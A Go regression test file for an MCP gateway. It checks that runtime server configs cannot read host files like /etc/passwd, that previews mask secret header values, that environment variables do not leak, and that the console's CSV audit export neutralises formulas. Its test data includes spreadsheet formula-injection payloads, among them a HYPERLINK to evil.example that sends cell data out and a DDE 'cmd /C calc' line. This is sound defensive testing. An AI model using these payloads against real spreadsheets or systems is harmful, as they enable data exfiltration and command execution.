package security

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// Holes 8, 9 and 10: the admin surface. A runtime server must not make
// the gateway read host files; a preview must not print static header
// values; the console's CSV export must not hand a spreadsheet a formula.

// hostPathRefusal checks the refusal of a runtime server that names a
// host file in field: 400 naming the field, and the same answer whether
// the file exists or not (it must not tell which files exist).
func hostPathRefusal(t *testing.T, field string, stExisting int, bodyExisting string, stMissing int, bodyMissing string) {
	t.Helper()
	for _, r := range []struct {
		file string
		st   int
		body string
	}{{"/etc/passwd", stExisting, bodyExisting}, {"/nonexistent/x", stMissing, bodyMissing}} {
		if r.st < 400 || r.st > 499 {
			t.Errorf("%s: %s: HTTP %d %s, want it refused (4xx)", field, r.file, r.st, r.body)
			continue
		}
		if !strings.Contains(r.body, field) {
			t.Errorf("%s: %s: the refusal %s does not name the field", field, r.file, r.body)
		}
	}
	// The name of the file aside, the two answers are the same.
	norm := func(s string) string {
		s = strings.ReplaceAll(s, "/etc/passwd", "FILE")
		return strings.ReplaceAll(s, "/nonexistent/x", "FILE")
	}
	if stExisting != stMissing || norm(bodyExisting) != norm(bodyMissing) {
		t.Errorf("%s: an existing file and a missing one answer differently, which tells the caller which host files exist:\n  /etc/passwd:    HTTP %d %s\n  /nonexistent/x: HTTP %d %s",
			field, stExisting, bodyExisting, stMissing, bodyMissing)
	}
}

// TestRuntimeServerHostFiles is hole 8.
func TestRuntimeServerHostFiles(t *testing.T) {
	g := startGateway(t, fmt.Sprintf("auth: {master_key: %q}\n", masterKey))
	docs := map[string]func(file string) string{
		"tls.ca_file": func(f string) string {
			return fmt.Sprintf(`{"name":"files","transport":"http","url":"https://127.0.0.1:1/mcp","tls":{"ca_file":%q}}`, f)
		},
		"tls.cert_file": func(f string) string {
			return fmt.Sprintf(`{"name":"files","transport":"http","url":"https://127.0.0.1:1/mcp","tls":{"cert_file":%q,"key_file":%q}}`, f, f)
		},
		"tls.key_file": func(f string) string {
			return fmt.Sprintf(`{"name":"files","transport":"http","url":"https://127.0.0.1:1/mcp","tls":{"cert_file":%q,"key_file":%q}}`, f, f)
		},
		"auth.private_key_file": func(f string) string {
			return fmt.Sprintf(`{"name":"files","transport":"http","url":"https://127.0.0.1:1/mcp","auth":{"type":"oauth2","token_url":"https://127.0.0.1:1/token","client_id":"c","client_auth":"private_key_jwt","private_key_file":%q}}`, f)
		},
	}
	for _, field := range []string{"tls.ca_file", "tls.cert_file", "tls.key_file", "auth.private_key_file"} {
		t.Run(field, func(t *testing.T) {
			st1, b1 := g.admin(t, http.MethodPost, "/servers", docs[field]("/etc/passwd"))
			if st1 == http.StatusCreated {
				g.admin(t, http.MethodDelete, "/servers/files", "")
			}
			st2, b2 := g.admin(t, http.MethodPost, "/servers", docs[field]("/nonexistent/x"))
			if st2 == http.StatusCreated {
				g.admin(t, http.MethodDelete, "/servers/files", "")
			}
			hostPathRefusal(t, field, st1, b1, st2, b2)
		})
	}
	// The same through PATCH of a runtime server that is fine.
	if st, body := g.admin(t, http.MethodPost, "/servers", `{"name":"okay","transport":"http","url":"https://127.0.0.1:1/mcp"}`); st != http.StatusCreated {
		t.Fatalf("POST a plain runtime server: HTTP %d %s", st, body)
	}
	st1, b1 := g.admin(t, http.MethodPatch, "/servers/okay", `{"tls":{"ca_file":"/etc/passwd"}}`)
	st2, b2 := g.admin(t, http.MethodPatch, "/servers/okay", `{"tls":{"ca_file":"/nonexistent/x"}}`)
	t.Run("PATCH tls.ca_file", func(t *testing.T) { hostPathRefusal(t, "tls.ca_file", st1, b1, st2, b2) })
}

// Hole 9: static header values are shown nowhere.

const staticSecret = "s3cret-value-123"

// previewLeak checks that out, something the preview printed or
// answered, holds neither header value in clear.
func previewLeak(t *testing.T, who, out string) {
	t.Helper()
	for _, v := range []string{staticSecret, "jwt-assertion-value-456"} {
		if strings.Contains(out, v) {
			t.Errorf("%s shows the secret value %q in clear:\n%s", who, v, out)
		}
	}
}

// TestPreviewMasksStaticHeaders is hole 9: mcpgate servers preview, the
// admin API's preview (which the console shows) and its server listings.
func TestPreviewMasksStaticHeaders(t *testing.T) {
	up := newUpstream(t, "hdrs")
	server := fmt.Sprintf(`  hdrs:
    transport: http
    url: %q
    headers: {X-Custom-Cred: %q, X-Jwt-Assertion: "jwt-assertion-value-456"}
`, up.url(), staticSecret)
	cfg := fmt.Sprintf("auth: {master_key: %q}\nservers:\n", masterKey) + server

	t.Run("mcpgate servers preview", func(t *testing.T) {
		path := writeConfig(t, "data_dir: "+filepath.Join(t.TempDir(), "data")+"\n"+cfg)
		stdout, stderr, code := runCLI(t, nil, "servers", "preview", "--config", path, "hdrs")
		if code != 0 {
			t.Fatalf("mcpgate servers preview: exit %d\n%s%s", code, stdout, stderr)
		}
		if !strings.Contains(stdout, "X-Custom-Cred") {
			t.Fatalf("the preview does not list the static header at all:\n%s", stdout)
		}
		previewLeak(t, "mcpgate servers preview", stdout+stderr)
	})

	// Not in issue 22, the same class: a stdio server's arguments carry
	// credentials as often as its env does (mcpgate import moves
	// "--api-key VALUE" and "--token=VALUE" into variables), and the
	// preview masks env values but prints the arguments expanded.
	t.Run("mcpgate servers preview, stdio arguments", func(t *testing.T) {
		path := writeConfig(t, `servers:
  tool:
    transport: stdio
    command: /bin/true
    args: ["--api-key", "${SEC_PREVIEW_ARG}", "--token=${SEC_PREVIEW_ARG}"]
    env: {API_KEY: "${SEC_PREVIEW_ARG}"}
`)
		stdout, stderr, code := runCLI(t, []string{"SEC_PREVIEW_ARG=" + staticSecret}, "servers", "preview", "--config", path, "tool")
		if code != 0 {
			t.Fatalf("mcpgate servers preview: exit %d\n%s%s", code, stdout, stderr)
		}
		previewLeak(t, "mcpgate servers preview of a stdio server", stdout+stderr)
	})

	g := startGateway(t, cfg)
	t.Run("admin API, config-file server", func(t *testing.T) {
		st, body := g.admin(t, http.MethodGet, "/servers/hdrs/preview", "")
		if st != http.StatusOK {
			t.Fatalf("GET /admin/v1/servers/hdrs/preview: HTTP %d %s", st, body)
		}
		previewLeak(t, "GET /admin/v1/servers/hdrs/preview", body)
	})
	t.Run("admin API, runtime server", func(t *testing.T) {
		doc := fmt.Sprintf(`{"name":"rt","transport":"http","url":%q,"headers":{"X-Custom-Cred":%q,"X-Jwt-Assertion":"jwt-assertion-value-456"}}`, up.url(), staticSecret)
		if st, body := g.admin(t, http.MethodPost, "/servers", doc); st != http.StatusCreated {
			t.Fatalf("POST /admin/v1/servers rt: HTTP %d %s", st, body)
		}
		for _, p := range []string{"/servers/rt/preview", "/servers", "/servers/rt/tools", "/audit/events"} {
			st, body := g.admin(t, http.MethodGet, p, "")
			if st != http.StatusOK {
				t.Errorf("GET /admin/v1%s: HTTP %d %s", p, st, body)
			}
			previewLeak(t, "GET /admin/v1"+p, body)
		}
		st, body := g.admin(t, http.MethodPost, "/servers/rt/test", "")
		previewLeak(t, fmt.Sprintf("POST /admin/v1/servers/rt/test (HTTP %d)", st), body)
	})
	// The static headers still go upstream, of course.
	c := g.client(t, "/mcp/hdrs", masterKey)
	c.initialize("")
	c.toolNames()
	if got := up.receivedHeader("X-Custom-Cred"); len(got) == 0 || got[0] != staticSecret {
		t.Errorf("the upstream received X-Custom-Cred %q, want the configured value", got)
	}
}

// Hole 10: the console's audit export (Audit, "Export CSV") turns the
// audit rows into CSV in the browser. Its csv function, as the binary
// serves it, is run with node on rows the real audit API returned.

// neutralised checks one CSV cell that held value: a value starting with
// =, +, -, @, TAB or CR is neutralised (the cell's text starts with a
// single quote), and the cell is well quoted.
func neutralised(t *testing.T, column, value, cell string) {
	t.Helper()
	text := cell
	if strings.HasPrefix(cell, `"`) && strings.HasSuffix(cell, `"`) && len(cell) >= 2 {
		text = strings.ReplaceAll(cell[1:len(cell)-1], `""`, `"`)
	}
	if value != "" && strings.ContainsAny(value[:1], "=+-@\t\r") && !strings.HasPrefix(text, "'") {
		t.Errorf("%s %q is exported as the cell %q, which a spreadsheet evaluates; want it to start with a single quote", column, value, cell)
	}
	if !strings.Contains(text, strings.TrimLeft(value, "'")) {
		t.Errorf("%s %q is exported as %q: the value is lost", column, value, cell)
	}
}

// TestAuditCSVFormulaInjection is hole 10: user names come from key user
// fields (and JWT claims), tool names from upstreams.
func TestAuditCSVFormulaInjection(t *testing.T) {
	node, err := exec.LookPath("node")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("node is required with CI=true (the console's own csv() runs under it)")
		}
		t.Skip("node is not installed (scripts/install-test-deps.sh installs Node 22)")
	}
	hostile := []string{"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"}
	var tools []rawTool
	for _, name := range []string{"=cmd", "-rm", "+sum", "@at", "\t=tab", "\r=cr"} {
		tools = append(tools, rawTool{Name: name})
	}
	up := newRawUpstream(t, "evil", tools...)
	var keys strings.Builder
	for i, user := range hostile {
		fmt.Fprintf(&keys, "    - {alias: u%d, key: \"mcpg_sec-csv-%d-0123456789\", user: %s, team: %s}\n", i, i, mustJSON(user), mustJSON(user))
	}
	g := startGateway(t, fmt.Sprintf("auth:\n  master_key: %q\n  keys:\n", masterKey)+keys.String()+"servers:\n"+up.server())
	for i := range hostile {
		c := g.client(t, "/mcp/evil", fmt.Sprintf("mcpg_sec-csv-%d-0123456789", i))
		c.initialize("")
		tool := tools[i].Name
		if res := c.callTool("c", tool, `{}`); isToolError(res) {
			t.Fatalf("call %q as user %q: %s", tool, hostile[i], describe(res))
		}
	}
	rows := g.auditRows(t, "server=evil&limit=100", len(hostile), 5*time.Second)
	if len(rows) < len(hostile) {
		t.Fatalf("audit rows: %d, want %d", len(rows), len(hostile))
	}
	_, _, page := g.request(t, http.MethodGet, "/admin/v1/audit?server=evil&limit=100", adminHeader(masterKey), "")

	// The console's own csv function, from the script the binary serves.
	st, _, js := g.request(t, http.MethodGet, "/ui/app.js", nil, "")
	if st != http.StatusOK {
		t.Fatalf("GET /ui/app.js: HTTP %d", st)
	}
	fn := regexp.MustCompile(`(?s)\nfunction csv\(rows\) \{.*?\n\}\n`).FindString(js)
	if fn == "" {
		t.Fatalf("the console's script has no csv(rows) function any more: find the audit export and point this test at it")
	}
	script := filepath.Join(t.TempDir(), "csv.js")
	prog := fn + "\nconst page = JSON.parse(require('fs').readFileSync(0, 'utf8'));\nprocess.stdout.write(JSON.stringify(csv(page.calls)));\n"
	if err := os.WriteFile(script, []byte(prog), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(node, script)
	cmd.Stdin = strings.NewReader(page)
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("node csv.js: %v", err)
	}
	var text string
	if err := json.Unmarshal(out, &text); err != nil {
		t.Fatalf("csv output %q: %v", out, err)
	}
	cells := parseCSV(t, text)
	if len(cells) < 2 {
		t.Fatalf("the export has no rows:\n%s", text)
	}
	header := cells[0]
	col := func(name string) int {
		for i, h := range header {
			if h == name {
				return i
			}
		}
		t.Fatalf("the export has no %s column: %q", name, header)
		return -1
	}
	userCol, teamCol, toolCol := col("user"), col("team"), col("tool")
	var page2 struct {
		Calls []auditRow `json:"calls"`
	}
	_ = json.Unmarshal([]byte(page), &page2)
	for i, r := range page2.Calls {
		if i+1 >= len(cells) {
			break
		}
		neutralised(t, "user", r.User, cells[i+1][userCol])
		neutralised(t, "team", r.Team, cells[i+1][teamCol])
		neutralised(t, "tool", r.Tool, cells[i+1][toolCol])
	}
}

// parseCSV splits the export into raw cells (quotes kept), lines ending
// in CRLF, a quoted cell running over line ends.
func parseCSV(t *testing.T, s string) [][]string {
	t.Helper()
	var rows [][]string
	var row []string
	var cell strings.Builder
	inQuote := false
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case inQuote:
			cell.WriteByte(c)
			if c == '"' {
				if i+1 < len(s) && s[i+1] == '"' {
					cell.WriteByte('"')
					i++
				} else {
					inQuote = false
				}
			}
		case c == '"':
			inQuote = true
			cell.WriteByte(c)
		case c == ',':
			row = append(row, cell.String())
			cell.Reset()
		case c == '\r' && i+1 < len(s) && s[i+1] == '\n':
			row = append(row, cell.String())
			cell.Reset()
			rows = append(rows, row)
			row = nil
			i++
		default:
			cell.WriteByte(c)
		}
	}
	return rows
}

func mustJSON(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// TestRuntimeServerNoEnvHeld is what held beside hole 8: a runtime
// server's fields are not expanded from the gateway's environment, so an
// admin API caller cannot send ${MCPGATE_MASTER_KEY} (or any variable) to
// an upstream of theirs; set and unset variables get the same refusal.
func TestRuntimeServerNoEnvHeld(t *testing.T) {
	up := newUpstream(t, "leak")
	g := startGateway(t, fmt.Sprintf("auth: {master_key: %q}\n", masterKey))
	var answers []string
	for _, v := range []string{"HOME", "PATH", "SEC_NO_SUCH_VARIABLE_X"} {
		st, body := g.admin(t, http.MethodPost, "/servers", fmt.Sprintf(`{"name":"leak","transport":"http","url":%q,"headers":{"X-Leak":"${%s}"}}`, up.url(), v))
		if st == http.StatusCreated {
			g.admin(t, http.MethodDelete, "/servers/leak", "")
		}
		answers = append(answers, fmt.Sprintf("HTTP %d %s", st, strings.ReplaceAll(body, v, "VAR")))
	}
	if answers[0] != answers[2] || answers[1] != answers[2] {
		t.Errorf("set and unset variables answer differently:\n%s", strings.Join(answers, "\n"))
	}
	for _, h := range up.receivedHeader("X-Leak") {
		if h != "" && !strings.HasPrefix(h, "${") {
			t.Errorf("the upstream received X-Leak %q: the gateway's environment", h)
		}
	}
	if !strings.HasPrefix(answers[0], "HTTP 400") {
		t.Errorf("a runtime server with ${VAR} in a header: %s, want 400", answers[0])
	}
}
